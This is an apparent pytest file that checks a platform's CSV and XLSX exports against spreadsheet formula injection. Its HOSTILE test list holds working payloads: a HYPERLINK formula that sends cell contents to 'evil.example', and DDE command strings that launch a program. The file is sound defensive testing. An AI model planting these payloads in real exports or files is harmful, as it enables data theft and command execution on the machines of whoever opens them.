"""Issue 11, item 4: no CSV or XLSX the platform writes holds a live formula.

Every writer is found in the source (csv.writer, Workbook, …) and must go through
`vigil.core.exports`; each one is then fed hostile text (`=HYPERLINK(…)`, `+…`, `-…`,
`@…`, after a tab, a carriage return or spaces) and no cell of its output may start with a
formula trigger; XLSX text cells are typed as strings. Genuine numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from vigil.core import exports
from vigil.core.actors import Actor

ROOT = Path(__file__).resolve().parent.parent / "vigil"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n-1+1",
    "＝1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


NUMBER = re.compile(r"\s*[+-]?\d+(\.\d+)?")


def dangerous(text: str) -> bool:
    """Starts with a formula trigger (also after whitespace) and is not exactly a number."""
    return (text.startswith(TRIGGERS) or text.lstrip().startswith(TRIGGERS)) and not NUMBER.fullmatch(text)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_quoted(value):
    out = exports.neutralise(value)
    assert out == "'" + value and not dangerous(out)
    assert exports.unquote(out) == value


@pytest.mark.parametrize("value", ["-5", "+3.5", "1e5", "abc", "", "Hà Nội", "  ", "a=b", "x-1"])
def test_harmless_text_and_numbers_are_left_alone(value):
    assert exports.neutralise(value) == value
    assert exports.neutralise(-5) == -5 and exports.neutralise(2.5) == 2.5
    assert exports.neutralise(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1) and exports.neutralise(None) is None


# --------------------------------------------------------------------------- finding the writers

WRITER = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|\.writerow\(")
# Each module that writes a spreadsheet, and the test below that feeds it hostile values.
COVERED = {
    "assets/services/imports.py": "test_systems_export",
    "incidents/documents/list_exports.py": "test_incident_list_export",
    "program/documents/premeeting_xlsx.py": "test_premeeting_xlsx",
    "intel/formats/csvfmt.py": "test_intel_csv_export",
    "core/exports.py": "test_hostile_text_is_quoted",
}


def test_every_spreadsheet_writer_goes_through_core_exports_and_is_tested_here():
    found = set()
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if "/tests/" in f"/{rel}" or rel.startswith("tests/"):
            continue
        text = path.read_text(encoding="utf-8")
        if WRITER.search(text):
            found.add(rel)
            if rel != "core/exports.py":
                assert "exports" in text and re.search(r"from vigil\.core(\.exports)? import[^\n]*exports|"
                                                       r"from vigil\.core\.exports import", text), rel
    assert found <= set(COVERED), f"a new CSV/XLSX writer needs a hostile-value test here: {found - set(COVERED)}"
    assert found == set(COVERED)


def csv_cells(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_csv_safe(content, must_contain: list[str]):
    rows = csv_cells(content)
    cells = [c for row in rows for c in row]
    bad = [c for c in cells if dangerous(c)]
    assert not bad, bad
    for value in must_contain:  # the value is there, quoted, not lost
        assert "'" + value in cells, value


def assert_xlsx_safe(content: bytes, must_contain: list[str]):
    book = load_workbook(io.BytesIO(content))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not dangerous(cell.value), (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
                else:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate)
    for value in must_contain:
        xml_value = value.replace("\r", "")  # XML normalises a lone CR away; the quote stays
        assert any(v.startswith("'") and xml_value.strip() in v for v in seen), value


# --------------------------------------------------------------------------- each writer


@pytest.mark.django_db
def test_systems_export(net):
    from vigil.assets.models import InformationSystem
    from vigil.assets.services import imports
    from vigil.assets.services import systems as svc

    actor = Actor(user=net.a_analyst, channel="web")
    svc.system_create(actor=actor, owner_unit=net.prov_a, code="ht-1", name=HOSTILE[0], purpose=HOSTILE[1],
                      operator=HOSTILE[2], note=HOSTILE[3], contact_name=HOSTILE[4].strip(), hosting_detail=HOSTILE[6],
                      contact_phone="+84 912 345 678", level=3)
    csv_file = imports.export_registry(actor=actor, fmt="csv")
    assert_csv_safe(csv_file.content, [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], "+84 912 345 678"])
    xlsx_file = imports.export_registry(actor=actor, fmt="xlsx")
    assert_xlsx_safe(xlsx_file.content, [HOSTILE[0], HOSTILE[1], HOSTILE[3]])
    level = load_workbook(io.BytesIO(xlsx_file.content)).active.cell(row=2, column=10).value
    assert level == 3  # numbers stay numbers

    # What was exported imports back as it was (the quote is the export's, not the data's).
    for produced in (csv_file, xlsx_file):
        again = imports.import_registry(actor=actor, content=produced.content, filename=produced.filename)
        assert again.imported and [u[0] for u in again.unchanged] == [2], [str(e) for e in again.errors]
    system = InformationSystem.objects.get(code="ht-1")
    assert system.name == HOSTILE[0] and system.contact_phone == "+84 912 345 678"


@pytest.mark.django_db
def test_incident_list_export(net):
    from vigil.incidents.documents import list_exports
    from vigil.incidents.selectors.lists import IncidentFilters
    from vigil.incidents.tests.test_reports_docx import make_incident

    for i, title in enumerate(HOSTILE):
        make_incident(net.prov_a, title=title.strip() if i == 6 else title)
    make_incident(net.prov_a, title=HOSTILE[6])
    user = net.a_analyst
    filters = IncidentFilters()
    produced = list_exports.incident_list_export(actor=Actor(user=user), fmt="csv", filters=filters)
    assert_csv_safe(produced.content(), [HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[4]])
    produced = list_exports.incident_list_export(actor=Actor(user=user), fmt="xlsx", filters=filters)
    assert_xlsx_safe(produced.content(), [HOSTILE[0], HOSTILE[1], HOSTILE[3]])


@pytest.mark.django_db
def test_premeeting_xlsx(net):
    from vigil.program.documents import exports as report_exports
    from vigil.program.models import Conclusion, Task
    from vigil.program.tests.test_report_premeeting import build_world

    world = build_world(net)
    Task.objects.filter(pk__in=list(Task.objects.values_list("pk", flat=True))).update(title=HOSTILE[0])
    Conclusion.objects.update(text=HOSTILE[3])
    produced = report_exports.premeeting_export(actor=Actor(user=net.users["office_staff"], channel="web"),
                                                fmt="xlsx", language="vi", meeting=world.target)
    assert_xlsx_safe(produced.content, [HOSTILE[0], HOSTILE[3]])


def test_intel_csv_export():
    from vigil.intel.formats.base import ExportOptions
    from vigil.intel.formats.csvfmt import CsvExport

    now = dt.datetime(2026, 3, 1, 8, tzinfo=dt.UTC)

    def indicator(type_code, value):
        return SimpleNamespace(type=type_code, value=value, tlp="amber", confidence=70, first_seen=now,
                               last_seen=now, expires_at=now + dt.timedelta(days=30), status="active")

    items = [indicator("phone", "+84912345678")] + [indicator("url", v) for v in HOSTILE]
    text = "".join(CsvExport().write(items, ExportOptions(generated_at=now)))
    assert_csv_safe(text, [HOSTILE[0], HOSTILE[1], HOSTILE[3]])
    rows = csv_cells(text)
    assert rows[1][1] == "+84912345678" and rows[1][3] == "70"  # exactly a number: left as is
